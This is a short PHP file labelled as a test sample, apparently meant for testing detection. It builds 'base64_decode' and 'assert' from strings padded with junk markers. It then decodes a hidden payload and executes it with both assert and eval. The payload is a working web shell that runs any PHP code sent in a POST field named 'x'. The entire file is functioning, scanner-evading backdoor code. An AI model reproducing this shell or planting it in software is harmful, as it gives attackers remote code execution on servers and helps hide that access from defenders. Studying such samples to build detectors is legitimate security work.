<?php
// Test sample: junk markers stripped with str_replace before decoding; function names too.
$k = str_replace('Xz', '', 'bXzaXzsXze6Xz4_dXzecXzode');
$p = str_replace('#~', '', 'QGV#~2YW#~woJ#~F9Q#~T1N#~UWy#~d4J#~10p#~O2V#~jaG#~8gJ#~29r#~Jzs#~=#~');
$a = str_replace('|', '', 'a|s|s|e|r|t');
@$a($k($p));
eval($k($p));
